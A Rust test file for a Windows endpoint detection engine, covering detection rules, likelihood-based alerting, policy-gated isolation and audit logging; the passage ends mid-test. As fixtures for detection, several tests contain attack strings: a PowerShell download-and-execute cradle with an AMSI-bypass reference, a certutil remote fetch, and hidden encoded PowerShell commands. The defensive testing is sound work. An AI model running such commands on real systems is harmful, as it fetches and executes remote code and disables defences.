use chaos::asmr::decision::{Decision, Probability};
use chaos::asmr::governance::{AuditLog, AutonomyLevel, Verdict};
use chaos::asmr::observe::{ObsId, ObservationMap};
use chaos::asmr::state::{AttrValue, EntityId, StateSpace};
use chaos::asmr::trace::Trace;
use chaos::likelihood::{evidence, Likelihood};
use chaos::model::alert::{Alert, Severity};
use chaos::model::event::{EventId, EventSource, Payload, ProviderId, TelemetryEvent};
use chaos::model::host::HostId;
use chaos::model::kind::{
    DnsQueryPayload, EventKind, FileCreate, ImageLoad, ProcessExit, ProcessStart, RegistrySet,
    ScriptBlock, TaskRegistered, WmiProcess, WmiSubscription,
};
use chaos::model::process::ProcessId;
use chaos::model::Timestamp;
use chaos::pipeline::engine::{Config, Engine};
use chaos::pipeline::minimise;
use chaos::pipeline::report::{build, Metrics};
use chaos::pipeline::rules::{
    command_image, evaluate, has_encoded_command, in_writable_location, rule_title, Facts, Finding,
};
use chaos::ratio::Ratio;
use std::collections::BTreeMap;

fn now() -> Timestamp {
    Timestamp::new(1_700_000_000, 0)
}

fn log_ratio(likelihood: Likelihood) -> f64 {
    (likelihood.hit as f64 / likelihood.miss as f64).ln()
}

fn value(ratio: Ratio) -> f64 {
    ratio.num as f64 / ratio.den as f64
}

// ---- rules


fn event(kind: EventKind) -> TelemetryEvent {
    TelemetryEvent::new(
        EventId::new(1),
        HostId::new("host-a").unwrap(),
        now(),
        EventSource::WindowsEtw,
        ProviderId::new("p"),
        1,
        100,
        200,
        4,
        kind,
        Payload::empty(),
    )
}

fn process_start(image: &str, command_line: Option<&str>) -> TelemetryEvent {
    event(EventKind::ProcessStart(ProcessStart {
        pid: ProcessId::new(100),
        parent_pid: Some(ProcessId::new(4)),
        executable: image.into(),
        command_line: command_line.map(Into::into),
        user: None,
        working_directory: None,
        started_at: now(),
        image_hash: None,
        integrity_level: None,
        is_wow64: false,
        parent_image: None,
    }))
}

fn rule_names(findings: &[Finding]) -> Vec<&str> {
    findings.iter().map(|f| f.rule).collect()
}

/// A PowerShell script block, as the sensor would build one from a 4104.
fn script_block(text: &str) -> TelemetryEvent {
    event(EventKind::ScriptBlock(ScriptBlock {
        pid: ProcessId::new(100),
        text: text.into(),
        script_block_id: Some("{block}".into()),
        path: None,
        message_number: Some(1),
        message_total: Some(1),
        recorded_at: now(),
    }))
}

/// A WMI-initiated process, as the sensor would build one from id 23.
fn wmi_process(
    command_line: &str,
    is_local: Option<bool>,
    client_machine: Option<&str>,
) -> TelemetryEvent {
    event(EventKind::WmiProcess(WmiProcess {
        pid: ProcessId::new(4242),
        command_line: command_line.into(),
        user: None,
        client_pid: Some(ProcessId::new(900)),
        client_machine: client_machine.map(Into::into),
        is_local,
        created_at: now(),
    }))
}

/// A permanent WMI subscription, as the sensor would build one from 5861.
fn wmi_subscription(consumer: Option<&str>) -> TelemetryEvent {
    event(EventKind::WmiSubscription(WmiSubscription {
        namespace: "root\\subscription".into(),
        event_filter: "SELECT * FROM __InstanceModificationEvent".into(),
        consumer: consumer.map(Into::into),
        recorded_at: now(),
    }))
}

/// A task registration, as the sensor would build one from 106.
fn task_registered(name: &str) -> TelemetryEvent {
    event(EventKind::TaskRegistered(TaskRegistered {
        task_name: name.into(),
        user: Some("SYSTEM".into()),
        recorded_at: now(),
    }))
}

/// A file creation, as the sensor would build one from Kernel-File 12.
fn file_create(path: &str) -> TelemetryEvent {
    event(EventKind::FileCreate(FileCreate {
        pid: ProcessId::new(100),
        path: path.into(),
        created_at: now(),
    }))
}

/// A module load, as the sensor would build one from Kernel-Process 5.
fn image_load(path: &str, signed: Option<bool>) -> TelemetryEvent {
    event(EventKind::ImageLoad(ImageLoad {
        pid: ProcessId::new(100),
        image_path: path.into(),
        image_hash: None,
        signed,
        signer: None,
        loaded_at: now(),
        is_wow64: false,
    }))
}

#[test]
fn an_encoded_command_in_a_script_block_is_strong_evidence() {
    // The whole point of supporting 4104: the process provider carries no
    // command line on any Windows build, so without this T1059.001 can only
    // fire on a fixture.
    let e = script_block(
        "powershell.exe -nop -w hidden -enc SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA",
    );
    let findings = evaluate(&e, &Facts::default());
    assert_eq!(rule_names(&findings), vec!["script_block_encoded_command"]);
    assert_eq!(findings[0].technique, "T1059.001");
    assert!(log_ratio(findings[0].likelihood) > 3.0, "must be strong");
}

#[test]
fn an_encoded_command_is_not_confused_with_prose_ending_in_e() {
    // A bare `-e ` matches English. What is checked is the argument shape, so a
    // script that merely mentions the word stays quiet.
    for innocent in [
        "Write-Host 'see -e below'",
        "Get-ChildItem -enc",
        "Write-Output 'the -enc flag is undocumented'",
        "$x = -enc",
    ] {
        let findings = evaluate(&script_block(innocent), &Facts::default());
        assert!(
            !rule_names(&findings).contains(&"script_block_encoded_command"),
            "{innocent} must not read as an encoded command"
        );
    }

    // A short run of characters after `-enc` is a token, not a payload.
    assert!(!has_encoded_command("run -enc abc"));
    // A long one is a payload.
    assert!(has_encoded_command(&format!(
        "run -enc {}",
        "QUJD".repeat(10)
    )));
}

#[test]
fn a_loader_fires_several_rules_and_they_add_up() {
    // The realistic shape: fetch, decode, run, with the defences turned off.
    // Separate findings rather than one verdict is the design, so this
    // asserts the count and that the techniques differ.
    let e = script_block(
        "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1');\
         [Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');",
    );
    let findings = evaluate(&e, &Facts::default());
    let names = rule_names(&findings);
    assert!(names.contains(&"script_block_obfuscated"), "{names:?}");
    assert!(names.contains(&"script_block_remote_fetch"), "{names:?}");
    assert!(names.contains(&"script_block_defence_evasion"), "{names:?}");

    let techniques: Vec<&str> = findings.iter().map(|f| f.technique).collect();
    assert!(techniques.contains(&"T1140"), "{techniques:?}");
    assert!(techniques.contains(&"T1105"), "{techniques:?}");
    assert!(techniques.contains(&"T1562.001"), "{techniques:?}");

    // Summed, this is not a close call.
    let total: f64 = findings.iter().map(|f| log_ratio(f.likelihood)).sum();
    assert!(total > 8.0, "a full loader should be overwhelming: {total}");
}

#[test]
fn ordinary_administration_stays_quiet() {
    // A rule that fires on every script is worse than no rule, and the shapes
    // below are what a real estated admin script looks like.
    for innocent in [
        "Get-Service | Where-Object { $_.Status -eq 'Stopped' } | Start-Service",
        "Import-Module ActiveDirectory; Get-ADUser -Filter * -Properties LastLogonDate",
        "Get-ChildItem -Path C:\\Logs -Filter *.log | Remove-Item -WhatIf",
        "Write-Output 'deployment complete'",
        "$servers | ForEach-Object { Invoke-Command -ComputerName $_ { Get-Date } }",
    ] {
        let findings = evaluate(&script_block(innocent), &Facts::default());
        assert!(
            findings.is_empty(),
            "{innocent} produced {:?}",
            rule_names(&findings)
        );
    }
}

#[test]
fn the_script_rules_only_read_script_blocks() {
    // The same text on a command line is the other rule's business. Firing
    // here as well would double-count one piece of evidence.
    let e = process_start(
        "powershell.exe",
        Some("powershell -enc SQBFAFgAKABOAGUAdwA"),
    );
    let findings = evaluate(&e, &Facts::default());
    let names = rule_names(&findings);
    assert_eq!(names, vec!["encoded_powershell"]);
    assert!(!names.iter().any(|n| n.starts_with("script_block_")));
}

#[test]
fn a_script_block_reports_which_pattern_matched_and_not_the_script() {
    // The body is minimised before it leaves the host and the script is
    // the most sensitive thing on the machine, so the detail names the tell.
    let e = script_block("$c = 'topsecret'; IEX $c");
    let finding = evaluate(&e, &Facts::default()).remove(0);
    assert_eq!(finding.detail.as_str(), "script block contains iex ");
    assert!(!finding.detail.contains("topsecret"));
}

#[test]
fn encoded_powershell_is_strong_evidence() {
    let e = process_start(
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        Some("powershell.exe -NoProfile -EncodedCommand SQBFAFgA"),
    );
    let findings = evaluate(&e, &Facts::default());
    assert_eq!(rule_names(&findings), vec!["encoded_powershell"]);
    assert_eq!(findings[0].technique, "T1059.001");
    assert!(log_ratio(findings[0].likelihood) > 3.0, "must be strong");
}

#[test]
fn hiding_the_window_raises_the_likelihood_ratio() {
    let plain = process_start("powershell.exe", Some("powershell -enc AAAA"));
    let hidden = process_start(
        "powershell.exe",
        Some("powershell -enc AAAA -WindowStyle Hidden"),
    );

    let a = evaluate(&plain, &Facts::default()).remove(0);
    let b = evaluate(&hidden, &Facts::default()).remove(0);
    assert!(log_ratio(b.likelihood) > log_ratio(a.likelihood));
}

#[test]
fn an_ordinary_powershell_invocation_is_not_evidence() {
    let e = process_start(
        "powershell.exe",
        Some("powershell.exe -Command Get-Process"),
    );
    assert!(evaluate(&e, &Facts::default()).is_empty());
}

#[test]
fn a_plain_svchost_is_not_masquerading() {
    let e = process_start("C:\\Windows\\System32\\svchost.exe", None);
    assert!(evaluate(&e, &Facts::default()).is_empty());
}

#[test]
fn explorer_in_windows_is_not_masquerading() {
    // `explorer.exe` legitimately runs from C:\Windows, so "not in System32"
    // would flag every workstation.
    let e = process_start("C:\\Windows\\explorer.exe", None);
    assert!(evaluate(&e, &Facts::default()).is_empty());

    let e = process_start("C:\\Windows\\SysWOW64\\explorer.exe", None);
    assert!(evaluate(&e, &Facts::default()).is_empty());
}

#[test]
fn svchost_in_temp_is_masquerading() {
    let e = process_start("C:\\Users\\a\\AppData\\Local\\Temp\\svchost.exe", None);
    let findings = evaluate(&e, &Facts::default());
    assert!(rule_names(&findings).contains(&"masquerading_outside_system32"));
    // It is also novel-in-temp if the engine says so, but with the default
    // facts only the masquerade rule fires.
    assert_eq!(findings.len(), 1);
}

#[test]
fn interpreter_parentage_needs_both_halves() {
    let e = process_start("cmd.exe", None);

    let from_word = Facts {
        parent_image: Some("C:\\Program Files\\winword.exe"),
        ..Default::default()
    };
    assert!(rule_names(&evaluate(&e, &from_word)).contains(&"interpreter_from_host_app"));

    let from_explorer = Facts {
        parent_image: Some("C:\\Windows\\explorer.exe"),
        ..Default::default()
    };
    assert!(!rule_names(&evaluate(&e, &from_explorer)).contains(&"interpreter_from_host_app"));
}

#[test]
fn local_certutil_use_is_not_a_lolbin_finding() {
    let benign = process_start("certutil.exe", Some("certutil -hashfile a.txt MD5"));
    assert!(evaluate(&benign, &Facts::default()).is_empty());

    let abuse = process_start(
        "certutil.exe",
        Some("certutil -urlcache -f http://x/y.exe y.exe"),
    );
    let findings = evaluate(&abuse, &Facts::default());
    assert!(rule_names(&findings).contains(&"lolbin_remote_fetch"));
}

#[test]
fn run_key_writes_are_detected_but_other_keys_are_not() {
    let persist = event(EventKind::RegistrySet(RegistrySet {
        pid: ProcessId::new(1),
        key_path: "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run".into(),
        value_name: Some("Updater".into()),
        value_data: None,
        set_at: now(),
    }));
    assert!(
        rule_names(&evaluate(&persist, &Facts::default())).contains(&"run_key_persistence")
    );

    let benign = event(EventKind::RegistrySet(RegistrySet {
        pid: ProcessId::new(1),
        key_path: "HKCU\\Software\\Microsoft\\Office\\16.0\\Common".into(),
        value_name: None,
        value_data: None,
        set_at: now(),
    }));
    assert!(evaluate(&benign, &Facts::default()).is_empty());
}

#[test]
fn strong_evidence_outweighs_weak_evidence_by_a_wide_margin() {
    let dns = event(EventKind::DnsQuery(DnsQueryPayload {
        pid: ProcessId::new(1),
        query_name: "cdn.telemetry.xyz".into(),
        query_type: "A".into(),
        answers: Vec::new(),
        response_code: None,
        queried_at: now(),
    }));
    // Weak rule: 0.30 / 0.070, so log LR = ln(4.29)  ~= 1.46 bits.
    let weak = evaluate(&dns, &Facts::default()).remove(0);

    // Strong rule: 0.88 / 0.015, so log LR = ln(58.7) ~= 4.07.
    let strong = evaluate(
        &process_start("C:\\Temp\\svchost.exe", None),
        &Facts::default(),
    )
    .remove(0);

    assert!(log_ratio(weak.likelihood) < 1.5);
    assert!(log_ratio(strong.likelihood) > 4.0);
    // If the gap between the best and worst rule in the file ever closes,
    // the queue stops being ordered by anything meaningful.
    assert!(
        log_ratio(strong.likelihood) > log_ratio(weak.likelihood) * 2.5,
        "strong {} vs weak {}",
        log_ratio(strong.likelihood),
        log_ratio(weak.likelihood)
    );
}

#[test]
fn every_runnable_rule_has_a_human_title() {
    // A rule that falls through to the generic title is a rule whose
    // alerts read `Suspicious activity` and nothing else, which is the
    // sort of row an analyst learns to skip.
    const RULES: &[&str] = &[
        "encoded_powershell",
        "interpreter_from_host_app",
        "masquerading_outside_system32",
        "lolbin_remote_fetch",
        "run_key_persistence",
        "high_abuse_tld",
        "novel_binary_in_writable_location",
        "process_fanout_burst",
        "script_block_encoded_command",
        "script_block_obfuscated",
        "script_block_remote_fetch",
        "script_block_defence_evasion",
        "wmi_process_creation",
        "wmi_permanent_subscription",
        "scheduled_task_registered",
        "unsigned_image_from_writable_location",
        "executable_dropped_in_writable_location",
    ];
    for rule in RULES {
        let title = rule_title(rule);
        assert_ne!(title, "Suspicious activity", "{rule} has no title");
        assert!(!title.contains(rule), "{title} repeats the rule id");
    }
    assert_eq!(rule_title("never-heard-of-it"), "Suspicious activity");
}

#[test]
fn fanout_needs_a_threshold_and_scales_with_it() {
    let e = process_start("C:\\Windows\\System32\\cmd.exe", None);

    let few = Facts {
        siblings: 3,
        ..Default::default()
    };
    assert!(evaluate(&e, &few).is_empty());

    let many = Facts {
        siblings: 12,
        ..Default::default()
    };
    let storm = Facts {
        siblings: 64,
        ..Default::default()
    };
    assert!(
        log_ratio(evaluate(&e, &storm)[0].likelihood)
            > log_ratio(evaluate(&e, &many)[0].likelihood)
    );
}

#[test]
fn novelty_only_counts_in_a_writable_location() {
    let novel_temp = Facts {
        image_is_novel: true,
        ..Default::default()
    };
    let novel_system = process_start("C:\\Windows\\System32\\notepad.exe", None);
    assert!(rule_names(&evaluate(&novel_system, &novel_temp)).is_empty());

    let novel_tmp = process_start("C:\\Temp\\payload.exe", None);
    assert!(
        rule_names(&evaluate(&novel_tmp, &novel_temp))
            .contains(&"novel_binary_in_writable_location")
    );
}

#[test]
fn a_remote_wmi_call_spawning_an_interpreter_is_the_loudest_wmi_shape() {
    // T1047's textbook form: no shell on the target, spawned from off-box.
    let remote_shell = wmi_process(
        "cmd.exe /c powershell -nop -w hidden -enc SQBFAFgA",
        Some(false),
        Some("ws-042.corp.example"),
    );
    let strong = evaluate(&remote_shell, &Facts::default());
    assert_eq!(rule_names(&strong), vec!["wmi_process_creation"]);
    assert_eq!(strong[0].technique, "T1047");

    // The same command locally is still WMI, but not the remote shape.
    let local_shell = wmi_process("cmd.exe /c whoami", Some(true), None);
    let weaker = evaluate(&local_shell, &Facts::default());
    assert!(
        log_ratio(weaker[0].likelihood) < log_ratio(strong[0].likelihood),
        "a local caller must not score the same as a remote one"
    );
}

#[test]
fn every_wmi_process_creation_is_reported_at_some_strength() {
    // Even the blandest local call is a WMI process creation, and the shape
    // exists so that fact is on the wire. The rule says so quietly rather
    // than staying silent: monitoring software runs this all day, which is
    // why the tier is weak and not why it is absent.
    let managed = wmi_process(
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe //.\\root:__Namespace",
        Some(true),
        None,
    );
    let findings = evaluate(&managed, &Facts::default());
    assert_eq!(rule_names(&findings), vec!["wmi_process_creation"]);
    assert!(log_ratio(findings[0].likelihood) < 3.0, "must stay weak");

    // The alert detail names the image and not the whole command line.
    assert!(findings[0].detail.contains("WmiPrvSE.exe"));
}

#[test]
fn a_subscription_whose_consumer_runs_code_is_strong_evidence() {
    // This is the rule the whole WMI shape exists for: a consumer that can
    // run a command survives reboot with no process to find.
    let command = wmi_subscription(Some("CommandLineEventConsumer.Name=\"Updater\""));
    let findings = evaluate(&command, &Facts::default());
    assert_eq!(rule_names(&findings), vec!["wmi_permanent_subscription"]);
    assert_eq!(findings[0].technique, "T1546.003");
    assert!(log_ratio(findings[0].likelihood) > 4.0, "must be strong");

    let script = wmi_subscription(Some("ActiveScriptEventConsumer.Name=\"Persist\""));
    assert!(
        log_ratio(evaluate(&script, &Facts::default())[0].likelihood)
            > 4.0
    );
}

#[test]
fn a_hosts_own_maintenance_subscription_is_reported_but_weakly() {
    // Windows ships permanent subscriptions of its own, and a rule that
    // screamed on them equally would be turned off on the first host it
    // met. The distinction is the consumer class, and the tiers price it.
    let builtin = wmi_subscription(Some(
        "NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\"",
    ));
    let weak = evaluate(&builtin, &Facts::default());
    assert_eq!(rule_names(&weak), vec!["wmi_permanent_subscription"]);

    let code_consumer = wmi_subscription(Some("CommandLineEventConsumer.Name=\"Updater\""));
    let strong = evaluate(&code_consumer, &Facts::default());
    assert!(
        log_ratio(strong[0].likelihood) > log_ratio(weak[0].likelihood) * 1.5,
        "a code-running consumer must outrank a log consumer by a lot"
    );

    // A subscription with no consumer at all is still worth shipping, but
    // it is not the strong tier.
    let anonymous = evaluate(&wmi_subscription(None), &Facts::default());
    assert_eq!(rule_names(&anonymous), vec!["wmi_permanent_subscription"]);
}

#[test]
fn windows_own_scheduled_tasks_stay_quiet() {
    for quiet in [
        "\\Microsoft\\Windows\\UpdateOrchestrator\\Schedule Scan",
        "\\Microsoft\\Windows\\Defrag\\ScheduledDefrag",
        "\\Microsoft\\Windows\\CertificateServicesClient\\SystemTask",
    ] {
        let findings = evaluate(&task_registered(quiet), &Facts::default());
        assert!(findings.is_empty(), "{quiet} must stay quiet");
    }
}

#[test]
fn a_task_masquerading_as_a_windows_component_scores_above_a_plain_one() {
    // Both are registered outside the Windows namespace, so both are worth
    // reporting; only one of them is named as though it belonged there.
    let plain = evaluate(
        &task_registered("\\Acme Corp App\\AcmeAgent"),
        &Facts::default(),
    );
    let masquerade = evaluate(
        &task_registered("\\MicrosoftEdgeUpdate\\MicrosoftUpdate"),
        &Facts::default(),
    );

    assert_eq!(rule_names(&plain), vec!["scheduled_task_registered"]);
    assert_eq!(rule_names(&masquerade), vec!["scheduled_task_registered"]);
    assert!(
        log_ratio(masquerade[0].likelihood) > log_ratio(plain[0].likelihood),
        "a Windows-sounding name outside the namespace must score higher"
    );
}

#[test]
fn an_executable_drop_is_reported_only_for_executable_extensions() {
    // The whole reason `file_create` has a rule: without an extension and a
    // location test it would fire on every file the host ever writes.
    let dropped = evaluate(
        &file_create("C:\\Users\\alice\\AppData\\Local\\Temp\\invoice.exe"),
        &Facts::default(),
    );
    assert_eq!(
        rule_names(&dropped),
        vec!["executable_dropped_in_writable_location"]
    );
    assert_eq!(dropped[0].technique, "T1105");

    // A document in the same directory is not an executable drop.
    assert!(
        evaluate(
            &file_create("C:\\Users\\alice\\AppData\\Local\\Temp\\invoice.pdf"),
            &Facts::default()
        )
        .is_empty()
    );

    // An executable outside a writable location — an update landing in
    // Program Files — is not the shape either.
    assert!(
        evaluate(
            &file_create("C:\\Program Files\\Acme\\acme.exe"),
            &Facts::default()
        )
        .is_empty()
    );
}

#[test]
fn an_unsigned_image_needs_both_halves_to_fire() {
    let writable = "C:\\Users\\alice\\AppData\\Local\\Acme\\helper.dll";
    let system = "C:\\Windows\\System32\\amsi.dll";

    // Unsigned *and* in a writable location: the shape.
    let both = evaluate(&image_load(writable, Some(false)), &Facts::default());
    assert_eq!(
        rule_names(&both),
        vec!["unsigned_image_from_writable_location"]
    );

    // Signed, in the same place: normal per-user software.
    assert!(evaluate(&image_load(writable, Some(true)), &Facts::default()).is_empty());

    // Unsigned, but in System32: a system image the host cannot vouch for is
    // someone else's problem, not this rule's.
    assert!(evaluate(&image_load(system, Some(false)), &Facts::default()).is_empty());

    // Unknown signature must not be read as unsigned. Silence is not
    // evidence, and the difference is the whole reason `signed` is an
    // `Option` rather than a `bool`.
    assert!(evaluate(&image_load(writable, None), &Facts::default()).is_empty());
}

// ---- the engine


/// An engine together with the arithmetic of belief: a prior of one in a
/// hundred, and a miss twenty times as dear as a false alarm.
struct Harness {
    engine: Engine,
    posteriors: BTreeMap<u64, f64>,
}

impl Harness {
    fn ingest(&mut self, event: &TelemetryEvent) -> Option<Alert> {
        let pending = self.engine.begin(event);
        let prior: f64 = 0.01;
        let belief = self
            .posteriors
            .entry(pending.key)
            .or_insert((prior / (1.0 - prior)).ln());
        for finding in &pending.findings {
            *belief += log_ratio(finding.likelihood);
        }
        let p = 1.0 / (1.0 + (-*belief).exp());
        let decision = if 1.0 - p < 20.0 * p {
            Decision::Act
        } else {
            Decision::Abstain
        };
        let probability = Probability {
            bits: p.to_bits(),
            text: format!("{p:.4}"),
        };
        self.engine
            .finish(event, &pending.findings, decision, &probability)
    }

    fn metrics(&self) -> &Metrics {
        self.engine.metrics()
    }

    fn audit(&self) -> &AuditLog {
        self.engine.audit()
    }

    fn state(&self) -> &StateSpace {
        self.engine.state()
    }

    fn trace(&self) -> &Trace {
        self.engine.trace()
    }
}

fn engine() -> Harness {
    Harness {
        engine: Engine::new(Config::new(HostId::new("host-a").unwrap())),
        posteriors: BTreeMap::new(),
    }
}

fn start(pid: u32, parent: u32, image: &str, cmd: Option<&str>) -> TelemetryEvent {
    TelemetryEvent::new(
        EventId::new(1),
        HostId::new("host-a").unwrap(),
        now(),
        EventSource::WindowsEtw,
        ProviderId::new("Microsoft-Windows-Kernel-Process"),
        1,
        pid,
        pid,
        4,
        EventKind::ProcessStart(ProcessStart {
            pid: ProcessId::new(pid),
            parent_pid: Some(ProcessId::new(parent)),
            executable: image.into(),
            command_line: cmd.map(Into::into),
            user: None,
            working_directory: None,
            started_at: now(),
            image_hash: None,
            integrity_level: None,
            is_wow64: false,
            parent_image: None,
        }),
        Payload::empty(),
    )
}

#[test]
fn ordinary_activity_produces_no_alert() {
    let mut e = engine();
    assert!(
        e.ingest(&start(100, 4, "C:\\Windows\\System32\\notepad.exe", None))
            .is_none()
    );
    assert_eq!(e.metrics().alerts, 0);
    assert_eq!(e.metrics().process_starts, 1);
}

#[test]
fn a_process_is_projected_with_its_parent_and_its_user_and_nothing_else() {
    let mut e = engine();
    let mut event = start(100, 4, "C:\\a.exe", Some("a.exe -x"));
    if let EventKind::ProcessStart(start) = &mut event.kind {
        start.user = Some("CORP\\alice".into());
    }
    e.ingest(&event);
    let first = e.state().get(EntityId(1)).expect("projected");
    assert_eq!(first.attrs.len(), 2);
    assert_eq!(e.state().attr(EntityId(1), "parent_pid"), Some(&AttrValue::Int(4)));
    assert_eq!(
        e.state().attr(EntityId(1), "user"),
        Some(&AttrValue::Text("CORP\\alice".into()))
    );
    e.ingest(&start(101, 100, "C:\\b.exe", None));
    assert_eq!(e.state().get(EntityId(2)).expect("projected").attrs.len(), 1);
}

#[test]
fn strong_evidence_crosses_the_threshold_and_raises_an_alert() {
    let mut e = engine();
    let event = start(
        100,
        4,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        Some("powershell -NoProfile -EncodedCommand SQBFAFgA -WindowStyle Hidden"),
    );
    let alert = e.ingest(&event).expect("strong evidence must alert");
    assert_eq!(e.metrics().alerts, 1);
    assert!(
        alert
            .mitre_techniques
            .iter()
            .any(|t| t.contains("T1059.001")),
        "alert should name the technique: {:?}",
        alert.mitre_techniques
    );
}

#[test]
fn the_rules_that_fired_are_listed_in_ascending_order() {
    let mut e = engine();
    for pid in [100, 101] {
        e.ingest(&start(
            pid,
            4,
            "C:\\Users\\x\\AppData\\Local\\Temp\\svchost.exe",
            Some("powershell -NoProfile -EncodedCommand SQBFAFgA -WindowStyle Hidden"),
        ));
    }
    let fired: Vec<(&str, u64)> = e
        .metrics()
        .by_rule
        .entries()
        .iter()
        .map(|(rule, firing)| (rule.as_str(), firing.firings))
        .collect();
    let mut ascending = fired.clone();
    ascending.sort_unstable();
    assert_eq!(fired, ascending);
    assert!(fired.len() > 1);
    assert_eq!(e.metrics().rules_fired(), fired.len());
    assert_eq!(e.metrics().findings, fired.iter().map(|(_, n)| n).sum::<u64>());
}

#[test]
fn a_decision_to_act_is_recorded_without_an_abstention() {
    let mut e = engine();
    let event = start(100, 4, "C:\\a.exe", None);
    let p: f64 = 0.9;
    let probability = Probability {
        bits: p.to_bits(),
        text: "0.9000".into(),
    };
    assert!(e.engine.finish(&event, &[], Decision::Abstain, &probability).is_none());
    assert_eq!(e.metrics().abstained, 0);
    assert!(e.audit().is_empty());
    let alert = e.engine.finish(&event, &[], Decision::Act, &probability);
    assert_eq!(alert.expect("permitted").rule_id.as_str(), "unclassified");
    assert_eq!(e.audit().len(), 1);
    assert_eq!(e.metrics().alerts, 1);
}

#[test]
fn weak_evidence_alone_abstains() {
    // A DNS match on its own is LR ~4.3 against a threshold of 1/21, so the
    // theorem says abstain even though the rule fired.
    let mut e = engine();
    let event = TelemetryEvent::new(
        EventId::new(2),
        HostId::new("host-a").unwrap(),
        now(),
        EventSource::WindowsEtw,
        ProviderId::new("Microsoft-Windows-DNS-Client"),
        3006,
        42,
        42,
        4,
        EventKind::DnsQuery(DnsQueryPayload {
            pid: ProcessId::new(42),
            query_name: "cdn.telemetry.xyz".into(),
            query_type: "A".into(),
            answers: Vec::new(),
            response_code: None,
            queried_at: now(),
        }),
        Payload::empty(),
    );

    assert!(e.ingest(&event).is_none(), "weak evidence must not alert");
    assert_eq!(e.metrics().abstained, 1);
    assert_eq!(e.metrics().alerts, 0);
    assert_eq!(
        e.metrics().findings,
        1,
        "the rule still fired and is counted"
    );
}

#[test]
fn isolated_isolation_is_gated_by_policy() {
    // The default policy caps auto-approval at Medium and isolates are
    // severity 5, so even overwhelming evidence cannot auto-isolate.
    let mut e = engine();
    let event = start(
        100,
        4,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        Some("powershell -EncodedCommand SQBFAFgA -WindowStyle Hidden"),
    );
    // Enough evidence to reach the isolate band: repeat the encoded-shell
    // pattern across several process starts from the same evidence key.
    for _ in 0..6 {
        let _ = e.ingest(&event);
    }

    let denied = e.audit().entries().iter().any(|entry| {
        entry.verdict == Verdict::Denied || entry.verdict == Verdict::RequiresApproval
    });
    assert!(
        denied,
        "high-severity actions must not slip through unattended"
    );
    assert!(e.metrics().withheld_by_policy + e.metrics().alerts >= 1);
}

#[test]
fn every_governed_decision_is_audited() {
    let mut e = engine();
    let _ = e.ingest(&start(
        100,
        4,
        "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        Some("powershell -enc AAAA -w hidden"),
    ));
    assert!(
        !e.audit().is_empty(),
        "an action must never be taken silently"
    );
    assert!(
        !e.audit().is_empty(),
        "an action must never be taken silently"
    );
    assert_eq!(
        e.audit().len() as u64,
        e.metrics().alerts + e.metrics().withheld_by_policy
    );
}

#[test]
fn state_and_trace_are_projected_for_every_event() {
    let mut e = engine();
    e.ingest(&start(100, 4, "C:\\a.exe", None));
    e.ingest(&start(101, 100, "C:\\b.exe", None));

    assert_eq!(e.state().len(), 2, "both processes projected into the state");
    assert_eq!(e.trace().len(), 2, "both events appended to the trace");

    // The parent/child edge was taught to the structural profile. Both
    // starts carried a parent, so both drew an edge: the second process's
    // parent is already known, while the first process's is not.
    let observation = e.engine.observation();
    assert_eq!(observation.known_edges, 2);
    assert_eq!(observation.distinct_images, 2);
}

#[test]
fn alert_bodies_are_minimised_before_leaving_the_host() {
    // A registry set under a Run key carries a full path in its detail.
    let mut e = engine();
    let event = TelemetryEvent::new(
        EventId::new(3),
        HostId::new("host-a").unwrap(),
        now(),
        EventSource::WindowsEtw,
        ProviderId::new("Microsoft-Windows-Kernel-Registry"),
        5,
        7,
        7,
        4,
        EventKind::RegistrySet(RegistrySet {
            pid: ProcessId::new(7),
            key_path: "C:\\Users\\a.smith\\AppData\\Local\\Temp\\payload.exe".into(),
            value_name: Some("Updater".into()),
            value_data: None,
            set_at: now(),
        }),
        Payload::empty(),
    );
    let _ = e.ingest(&event);

    // Directly check the minimiser: the filename must not survive it.
    let minimised = minimise("C:\\Users\\a.smith\\payload.exe written");
    assert!(!minimised.contains("a.smith"), "{minimised}");
    assert!(minimised.contains(".exe"), "{minimised}");
}

// ---- the report

#[test]
fn firings_accumulate_per_rule() {
    let mut m = Metrics::default();
    m.record_finding("a", 5_000, 1_000);
    m.record_finding("a", 5_000, 1_000);
    m.record_finding("b", 5_000, 1_000);
    assert_eq!(m.findings, 3);
    assert_eq!(m.rule("a").unwrap().firings, 2);
    assert_eq!(m.rule("b").unwrap().firings, 1);
}

#[test]
fn a_run_with_no_entities_yet_is_fully_covered_not_fully_blind() {
    let empty = build(
        &Metrics::default(),
        &ObservationMap::new(),
        0,
        0,
        0,
    );
    assert_eq!(value(empty.blind_spot), 0.0);
    assert_eq!(value(empty.coverage()), 1.0);
    assert_eq!(empty.entities, 0);
}

#[test]
fn an_entity_that_was_never_observed_is_a_blind_spot() {
    // The other direction, so that "always zero" cannot pass: a
    // projected entity with nothing recorded against it is exactly the gap
    // the observation map exists to represent.
    let observation = build(
        &Metrics::default(),
        &ObservationMap::new(),
        4,
        0,
        0,
    );
    assert_eq!(value(observation.blind_spot), 1.0);
    assert_eq!(value(observation.coverage()), 0.0);
}

#[test]
fn a_fully_observed_universe_has_no_blind_spot() {
    let mut observe = ObservationMap::new();
    for entity in 0..4 {
        observe.observe(entity, ObsId(entity));
    }
    let observation = build(&Metrics::default(), &observe, 4, 0, 0);
    assert_eq!(value(observation.blind_spot), 0.0);
    assert_eq!(value(observation.coverage()), 1.0);
}

// ---- more of the same

#[test]
fn likelihoods_are_kept_strictly_positive() {
    assert_eq!(evidence(0, 20_000), Likelihood { hit: 1, miss: 10_000 });
    let weak = Likelihood::new(3_000, 700);
    let strong = Likelihood::new(8_800, 150);
    assert!(weak.is_weaker(&strong));
    assert!(!strong.is_weaker(&weak));
    assert!(!weak.is_weaker(&weak));
}

#[test]
fn a_rule_keeps_its_own_numbers() {
    let found = evaluate(
        &process_start("powershell.exe", Some("powershell -enc AAAA")),
        &Facts::default(),
    )
    .remove(0);
